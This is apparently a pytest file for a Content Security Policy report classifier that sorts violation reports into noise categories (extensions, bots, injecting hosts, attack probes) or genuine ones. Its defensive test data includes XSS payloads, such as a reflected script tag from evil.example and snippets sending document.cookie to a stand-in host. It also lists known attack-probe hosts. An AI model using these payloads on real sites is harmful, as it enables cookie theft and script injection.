"""Noise: each rule catches its report, and lets its nearest neighbour pass."""

from __future__ import annotations

import dataclasses

import pytest
from msgspec import structs

from policybuilder.evidence import EvidenceClass
from policybuilder.reports.hosts import host_matches
from policybuilder.reports.noise import GENUINE, classify
from policybuilder.reports.normalization import INVALID, NormalizedViolation, normalize
from policybuilder.reports.rules import built_in_rules
from policybuilder.reports.wire import ReportKind, WireReport

RULES = built_in_rules().rules
HOSTS = ("shop.example", "*.shop.example")
ATTACK_PAGE = "https://shop.example/search?q=%3Cscript%20src=https://evil.example/x.js%3E%3C/script%3E"


INSTAGRAM = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "Instagram 380.0.0.28.109 (iPhone14,5; iOS 18_5; en_US; en; scale=3.00; 1170x2532; 738113467)"
)
GOOGLEBOT = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) "
    "Chrome/156.0.0.0 Safari/537.36"
)


def report(user_agent: str = "", **members: str) -> NormalizedViolation:
    """A violation as normalisation hands it on; of a picture from elsewhere, if nothing else is said."""
    wire = {
        "document-uri": "https://shop.example/cart",
        "effective-directive": "img-src",
        "blocked-uri": "https://cdn.example/a.png",
        "original-policy": "default-src 'none'",
        **{name.replace("_", "-"): value for name, value in members.items()},
    }
    normalized = normalize(WireReport(ReportKind.VIOLATION, wire), user_agent)
    assert isinstance(normalized, NormalizedViolation)
    return normalized


# (rule, a report it catches, its nearest neighbour, which is the site's own doing)
RULE_CASES = [
    ("malformed-value", {"effective_directive": "img-src;script-src"}, {"effective_directive": "fenced-frame-src"}),
    ("malformed-value", {"blocked_uri": "https://exa mple.example/"}, {"blocked_uri": "https://exa-mple.example/"}),
    ("malformed-value", {"document_uri": "shop.example"}, {"document_uri": "https://shop.example"}),
    ("malformed-value", {"document_uri": "/cart"}, {"document_uri": "https://shop.example/"}),
    (
        "test-report",
        {"document_uri": "https://test-report.invalid/"},
        {"document_uri": "https://test-report.shop.example/", "blocked_uri": "https://test-report.invalid/"},
    ),
    *(
        ("extension-scheme", {member: spelling}, {member: neighbour})
        for member, neighbour in (
            ("blocked_uri", "https://chrome-extension.example/a.js"),
            ("source_file", "https://shop.example/chrome-extension.js"),
        )
        for spelling in (
            "chrome-extension",
            "chrome-extension:",
            "chrome-extension://fmkadmapgofadopljbjfkapdkoienihi/a.js",
            "moz-extension",
            "safari-extension://com.example.addon-XYZ/0",
            "safari-web-extension",
            "ms-browser-extension",
            "webkit-masked-url://hidden/",
            "se-extension",
            "mxaddon-pkg",
            "user-script:1",
        )
    ),
    (
        "extension-in-style",
        {"effective_directive": "style-src-elem", "blocked_uri": "inline", "script_sample": "a{b:url(moz-extension://"},
        {"effective_directive": "style-src-elem", "blocked_uri": "inline", "script_sample": "a{b:url(moz-extension"},
    ),
    ("saved-page", {"document_uri": "file:///home/somebody/shop.html"}, {"document_uri": "https://shop.example/file"}),
    ("saved-page", {"document_uri": "data"}, {"document_uri": "blob"}),
    ("translated-copy", {"document_uri": "https://shop-example.translate.goog/"}, {}),
    ("foreign-document", {"document_uri": "https://shop.example.evil.example/"}, {}),
    ("foreign-document", {"document_uri": "https://evilshop.example/"}, {"document_uri": "https://a.shop.example/"}),
    ("foreign-document", {"document_uri": "https://other.example/"}, {"document_uri": "https://shop.example:8443/"}),
    ("foreign-document", {"document_uri": "https://other.example"}, {"document_uri": "about:srcdoc"}),
    *(
        ("browser-internal", {member: spelling}, {member: "https://gsa.example/"})
        for member in ("blocked_uri", "source_file")
        for spelling in (
            "gsa://onpageload",
            "webviewprogressproxy:///complete",
            "res",
            "symres:r.js",
            "chrome://global",
        )
    ),
    (
        "injecting-host",
        {"blocked_uri": "https://gc.kaspersky-labs.com/a.js"},
        {"blocked_uri": "https://kaspersky-labs.com.example/a.js"},
    ),
    ("injecting-host", {"source_file": "http://injections.adguard.com/x"}, {"source_file": "https://adguard.com/x"}),
    ("about-blocked", {"blocked_uri": "about:blank"}, {"blocked_uri": "https://about.example/"}),
    (
        "reflected-in-query",
        {"document_uri": ATTACK_PAGE, "blocked_uri": "https://evil.example/x.js"},
        {"document_uri": ATTACK_PAGE},
    ),
    (
        "reflected-in-query",
        {
            "document_uri": "https://shop.example/?q=%3Cimg+src%3Dx+onerror%3Dalert(document.domain)%3E",
            "effective_directive": "script-src-attr",
            "blocked_uri": "inline",
            "script_sample": "alert(document.domain)",
        },
        {
            "document_uri": "https://shop.example/?q=alert('Added!')",
            "effective_directive": "script-src-attr",
            "blocked_uri": "inline",
            "script_sample": "alert('Added!')",
        },
    ),
    (
        "reflected-in-query",
        {"document_uri": "https://shop.example/?u=%3Ciframe%20src=data:text/html,x", "blocked_uri": "data"},
        {"document_uri": "https://shop.example/?u=data:text/html,x", "blocked_uri": "data"},
    ),
    # A redirect target in the query is how ordinary sites work.
    (
        "reflected-in-query",
        {
            "document_uri": "https://shop.example/?to=javascript:x='https://evil.example/'",
            "blocked_uri": "https://evil.example/",
        },
        {"document_uri": "https://shop.example/?to=https://pay.example/", "blocked_uri": "https://pay.example/"},
    ),
    (
        "own-policy-allows",
        {"original_policy": "img-src https://cdn.example"},
        {"original_policy": "img-src https://cdn.example/b/"},
    ),
    ("own-policy-allows", {"original_policy": "script-src 'none'"}, {"original_policy": "default-src 'self'"}),
    ("own-policy-allows", {"original_policy": "img-src *"}, {"original_policy": ""}),
    (
        "extension-script",
        {"blocked_uri": "inline", "script_sample": "(function installGlobalHook(window) {"},
        {"blocked_uri": "inline", "script_sample": "(function install(window) {"},
    ),
    ("attack-host", {"blocked_uri": "https://c8f.oast.fun/x"}, {"blocked_uri": "https://toast.fun/x"}),
    ("attack-host", {"blocked_uri": "https://a.burpcollaborator.net"}, {"blocked_uri": "https://portswigger.net/"}),
    ("attack-source", {"source_file": "https://xss.report/c/me"}, {"source_file": "https://report.example/c/me"}),
    *(
        (
            "attack-sample",
            {"effective_directive": "script-src-attr", "blocked_uri": "inline", "script_sample": sample},
            {"effective_directive": "script-src-attr", "blocked_uri": "inline", "script_sample": neighbour},
        )
        for sample, neighbour in (
            ("alert(document.domain)", "alert('Thank you')"),
            ("fetch('//a.example/'+document.cookie)", "fetch('/api/cart').then(r=>r.json())"),
            ("new Image().src='//a.example/?'+document.cookie", "document.cookie='seen=1'"),
            ("eval(atob('YWxl'", "this.src='/fallback.png'"),
        )
    ),
    (
        "attack-sample",
        {
            "effective_directive": "require-trusted-types-for",
            "blocked_uri": "trusted-types-sink",
            "sample": "Element innerHTML|<svg onload=f()>",
        },
        {
            "effective_directive": "require-trusted-types-for",
            "blocked_uri": "trusted-types-sink",
            "sample": "Element innerHTML|<svg viewBox=",
            "original_policy": "require-trusted-types-for 'script'",
        },
    ),
    # More pairs are in test_lookalikes.py.
    ("look-alike", {"blocked_uri": "https://sh0p.example/x.js"}, {"blocked_uri": "https://img.shop.example/x.js"}),
    (
        "look-alike",
        {"blocked_uri": "https://typecaze.example/a", "original_policy": "img-src https://files.typecase.example"},
        {"blocked_uri": "https://typeset.example/a", "original_policy": "img-src https://files.typecase.example"},
    ),
    (
        "in-app-request",
        {"user_agent": INSTAGRAM, "blocked_uri": "https://connect.facebook.net/en_US/pcm.js"},
        {"user_agent": INSTAGRAM, "blocked_uri": "https://connect.facebook.net/en_US/sdk.js"},
    ),
    (
        "in-app-request",
        {"user_agent": INSTAGRAM, "blocked_uri": "https://connect.facebook.net/en_US/iab.autofill.enhanced.js"},
        {"blocked_uri": "https://connect.facebook.net/en_US/iab.autofill.enhanced.js"},
    ),
    (
        "in-app-script",
        {"user_agent": INSTAGRAM, "blocked_uri": "inline", "sample": "_AutofillCallbackHandler = function"},
        {"user_agent": INSTAGRAM, "blocked_uri": "inline", "sample": "window.dataLayer = window.dataLayer || ["},
    ),
    (
        "translating-script",
        {"blocked_uri": "https://www.gstatic.com/_/translate_http/_/ss/k=translate_http.tr/d=0"},
        {"blocked_uri": "https://www.gstatic.com/recaptcha/releases/x/recaptcha__en.js"},
    ),
    # Where people develop, their own machine is a real dependency; a public page has no business there.
    *(
        ("loopback-blocked", {"blocked_uri": blocked}, {"blocked_uri": blocked, "document_uri": document})
        for blocked, document in (
            ("http://localhost:3000/a.js", "about:srcdoc"),
            ("http://127.0.0.1/a.js", "blob:https://shop.example/x"),
            ("ws://[::1]:24678/", "about:blank"),
        )
    ),
    ("bot", {"user_agent": GOOGLEBOT}, {"user_agent": GOOGLEBOT.replace("compatible; Googlebot/2.1; +http", "x; h")}),
    ("bot", {"user_agent": "Mozilla/5.0 (compatible; NewCrawler/1.0; +http://crawl.example/)"}, {"user_agent": ""}),
    ("bot", {"user_agent": "Slackbot-LinkExpanding 1.0"}, {"user_agent": "Mozilla/5.0 (Linux; Android 14; CUBOT P80)"}),
    ("bot", {"user_agent": "Twitterbot/1.0"}, {"user_agent": "Mozilla/5.0 (X11) HeadlessChrome/156.0.0.0"}),
]


@pytest.mark.parametrize(("rule", "caught", "neighbour"), RULE_CASES)
def test_a_rule_catches_its_report_and_not_the_nearest_neighbour(
    rule: str, caught: dict[str, str], neighbour: dict[str, str]
) -> None:
    assert classify(report(**caught), HOSTS).rule == rule
    assert classify(report(**neighbour), HOSTS) == GENUINE


def test_every_rule_has_a_case() -> None:
    assert {rule.rule_id for rule in RULES} == {case[0] for case in RULE_CASES}


def test_rules_are_told_apart_by_their_ids() -> None:
    assert len({rule.rule_id for rule in RULES}) == len(RULES)
    assert GENUINE.rule not in {rule.rule_id for rule in RULES}


# Five collectors have issues from people whose real reports vanished.
@pytest.mark.parametrize(
    "members",
    [
        {"blocked_uri": "http://localhost:3000/a.js", "document_uri": "http://localhost:8000/"},
        {"blocked_uri": "ws://127.0.0.1:24678/", "document_uri": "http://192.168.1.20:8000/"},
        {"blocked_uri": "http://localhost:35729/livereload.js", "document_uri": "https://shop.test/"},
        {"document_uri": "http://localhost:8000/"},
        {"blocked_uri": "blob"},
        {"blocked_uri": "data"},
        {"blocked_uri": "mediastream"},
        {"blocked_uri": "filesystem"},
        {"blocked_uri": "inline"},
        {"blocked_uri": "eval", "effective_directive": "script-src"},
        {"blocked_uri": ""},
        {"blocked_uri": "self"},
        {"blocked_uri": "https://connect.facebook.net/en_US/sdk.js"},
        {"blocked_uri": "https://s3.amazonaws.com/bucket/a.png"},
        {"blocked_uri": "https://opera.example/"},
        # Firefox fetches a page's favicon itself, and names `resource` as the source.
        {"blocked_uri": "https://shop.example/favicon.ico", "source_file": "resource"},
    ],
)
def test_what_a_site_may_well_have_caused_is_genuine(members: dict[str, str]) -> None:
    assert classify(report(**members)) == GENUINE


def test_a_site_without_hosts_takes_any_document() -> None:
    foreign = report(document_uri="https://other.example/")
    assert classify(foreign, ()) == GENUINE
    assert classify(foreign, HOSTS).evidence_class is EvidenceClass.FOREIGN_HOST


def test_the_class_depends_on_nothing_but_the_report() -> None:
    """A rule that remembered would let strangers choose the class of other people's reports."""
    first, second = report(), report(blocked_uri="https://gc.kaspersky-labs.com/a.js")
    alone = classify(first), classify(second)
    assert (classify(second), classify(first), classify(first)) == (alone[1], alone[0], alone[0])


def test_the_first_rule_that_applies_decides() -> None:
    everything = report(
        document_uri="https://other.example/?q=%3Cscript%20src=https://evil.example/",
        blocked_uri="https://evil.example/",
        source_file="chrome-extension",
        original_policy="img-src *",
    )
    assert classify(everything, HOSTS).rule == "extension-scheme"
    without_source = structs.replace(everything, violation=dataclasses.replace(everything.violation, source_file=""))
    assert classify(without_source, HOSTS).rule == "foreign-document"
    assert classify(without_source).rule == "reflected-in-query"


# (pattern, document host, matches)
HOST_CASES = [
    ("shop.example", "shop.example", True),
    ("shop.example", "shop.example:8443", True),
    ("shop.example", "www.shop.example", False),
    ("shop.example", "evilshop.example", False),
    ("*.shop.example", "www.shop.example", True),
    ("*.shop.example", "a.b.shop.example", True),
    ("*.shop.example", "shop.example", False),
    ("*.shop.example", "evilshop.example", False),
    ("shop.example:8443", "shop.example:8443", True),
    ("shop.example:8443", "shop.example", False),
    ("shop.example:8443", "shop.example:84430", False),
    ("*.shop.example:8443", "www.shop.example:8443", True),
]


@pytest.mark.parametrize(("pattern", "host", "matches"), HOST_CASES)
def test_a_documents_host_is_the_sites_or_below_its_wildcard(pattern: str, host: str, matches: bool) -> None:  # noqa: FBT001  (a column of the table)
    assert host_matches(pattern, host) is matches


def test_a_value_that_is_invalid_is_malformed_where_it_tells_what_was_blocked() -> None:
    violation = report().violation
    for broken in (
        dataclasses.replace(violation, effective_directive=INVALID),
        dataclasses.replace(violation, blocked_uri=INVALID),
        dataclasses.replace(violation, document_uri=INVALID),
    ):
        assert classify(NormalizedViolation(broken, "")).evidence_class is EvidenceClass.MALFORMED
    odd_source = dataclasses.replace(violation, source_file=INVALID)
    assert classify(NormalizedViolation(odd_source, "")) == GENUINE
